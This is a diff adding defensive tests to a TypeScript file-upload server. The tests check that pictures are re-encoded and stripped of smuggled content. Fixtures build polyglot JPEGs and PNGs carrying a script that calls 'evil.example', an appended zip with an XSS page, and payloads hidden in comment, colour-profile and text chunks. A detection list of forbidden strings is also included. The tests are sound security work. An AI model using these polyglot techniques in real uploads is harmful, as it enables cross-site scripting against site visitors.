@@ -4,7 +4,7 @@ import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { pictureAddress } from '#server/files/picture-address.ts'
 import { pictureSize } from '#server/files/picture-size.ts'
 import { startHttpPortal, type Visitor, visitor } from '../security/over-http.ts'
-import { jpeg, pdf, png, withSegment } from './make-files.ts'
+import { jpeg, pdf, png, pngPart, withSegment, zip } from './make-files.ts'
 
 let portal: Awaited<ReturnType<typeof startHttpPortal>>
 let owner: Visitor
@@ -26,6 +26,12 @@ async function uploaded(kind: string, name: string, bytes: Buffer): Promise<stri
   })
   if (answer.status !== 201) throw new Error(`Not uploaded: ${await answer.text()}`)
   return ((await answer.json()) as { data: { id: string } }).data.id
+}
+
+/** A PNG with one more part behind its first. */
+function withPart(picture: Buffer, type: string, content: string): Buffer {
+  const first = 8 + 12 + picture.readUInt32BE(8)
+  return Buffer.concat([picture.subarray(0, first), pngPart(type, Buffer.from(content)), picture.subarray(first)])
 }
 
 /** The address as the channel is told it, asked of this server. */
@@ -119,6 +125,34 @@ describe('The address of a picture', () => {
     expect(pictureSize(shown, 'jpg')).toEqual({ width: 224, height: 224 })
     expect(photo.includes('12.9716')).toBe(true)
     expect(shown.includes('12.9716')).toBe(false)
+  })
+
+  const script = '*/=1;fetch("//evil.example");/*'
+  const behind = () => zip([{ name: 'evil.html', content: Buffer.from('<script>alert(1)</script>') }])
+  const junk = Buffer.concat([Buffer.from('ICC_PROFILE\0\x01\x01', 'latin1'), Buffer.from(script.repeat(20))])
+  test.each<[string, 'png' | 'jpg', () => Buffer]>([
+    ['a JPEG that is a script, too', 'jpg', () => withSegment(jpeg(224, 224), 0xfe, Buffer.from(script))],
+    ['a JPEG with a script for a colour profile', 'jpg', () => withSegment(jpeg(224, 224), 0xe2, junk)],
+    ['a JPEG with an archive behind its end', 'jpg', () => Buffer.concat([jpeg(224, 224), behind()])],
+    ['a PNG with an archive behind its end', 'png', () => Buffer.concat([png(224, 224), behind()])],
+    ['a PNG with a page in a text beside its pixels', 'png', () => withPart(png(224, 224), 'tEXt', `Title\0<script>${script}`)],
+    ['a PNG with a part of its own', 'png', () => withPart(png(224, 224), 'evIl', script)],
+    ['a PNG with a script for a colour profile', 'png', () => withPart(png(224, 224), 'iCCP', `junk\0\0${script}`)],
+  ])('U2: gives %s as nothing but a picture: its pixels encoded anew, without any byte beside them', async (_, type, make) => {
+    const bytes = make()
+    const file = await uploaded('logo', `logo.${type}`, bytes)
+    const answer = await fetch(portal.address + addressOf(file))
+    const shown = Buffer.from(await answer.arrayBuffer())
+    expect([answer.status, pictureSize(shown, type)]).toEqual([200, { width: 224, height: 224 }])
+    for (const text of ['evil', 'script', 'fetch', 'PK\x03\x04', 'PK\x05\x06'])
+      expect([text, shown.includes(Buffer.from(text, 'latin1'))]).toEqual([text, false])
+    const plain = type === 'png' ? png(224, 224) : jpeg(224, 224)
+    const kept = await sharp(shown).metadata()
+    expect([kept.exif, kept.icc, kept.iptc, kept.xmp, kept.comments]).toEqual(Array(5).fill(undefined))
+    // Nothing follows the end that the format says.
+    expect(shown.subarray(-2).toString('hex')).toBe(type === 'png' ? '6082' : 'ffd9')
+    const grey = async (picture: Buffer) => (await sharp(picture).stats()).channels[0]?.mean
+    expect(await grey(shown)).toBeCloseTo((await grey(plain)) ?? Number.NaN, 0)
   })
 
   test('with any other signature is not there', async () => {
